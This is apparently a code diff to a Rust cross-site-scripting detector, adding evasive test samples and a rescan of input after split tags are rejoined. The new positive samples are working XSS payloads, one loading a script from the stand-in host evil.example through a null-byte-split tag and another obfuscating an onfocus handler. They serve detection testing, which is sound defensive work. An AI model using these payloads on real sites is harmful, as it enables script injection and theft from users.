@@ -9,7 +9,7 @@ pub mod svg;
 mod tag;
 
 use super::text_field::{self, TextField};
-use super::{Detector, Match, Samples, Subject, work};
+use super::{Detector, Match, Samples, Subject, rejoin, work};
 use crate::model::{AttackType, ByteClassFilter, ByteClasses, Confidence, Tag, Zone};
 use crate::normalize::fold;
 
@@ -40,6 +40,8 @@ pub const DETECTOR: Detector = Detector {
             "`-alert(1)-`",
             "＜script＞alert(1)＜/script＞",
             "＜script＞alert（1）＜／script＞",
+            "<<scr\0ipt/src=//evil.example/x.js></script",
+            "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
             "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
         ],
         negative: &[
@@ -58,6 +60,7 @@ pub const DETECTOR: Detector = Detector {
             "javascript:void(0)",
             "Alerts (2)",
             "alert(s)",
+            "H<sub>2</sub>O, <b>f</b>irst and <i>o</i>n",
         ],
     },
 };
@@ -86,6 +89,15 @@ fn run(subject: &Subject<'_>) -> Option<Match> {
     }
     if found.is_some_and(|m| script::leads(subject.bytes, m.start)) && text_field::is_kept(subject) {
         return None;
+    }
+    if found.is_none_or(|m| m.confidence < Confidence::High)
+        && subject.classes.intersects(ByteClasses::LT.with(ByteClasses::CONTROL))
+        && pays()
+        && let Some(joined) = rejoin::run(subject.bytes)
+        && let Some(m) = find(&joined, ByteClasses::of(&joined), &pays)
+        && m.confidence == Confidence::High
+    {
+        return Some(Match { start: 0, end: subject.bytes.len(), ..m });
     }
     if found.is_none_or(|m| m.confidence < Confidence::High)
         && subject.classes.intersects(ByteClasses::HIGH)
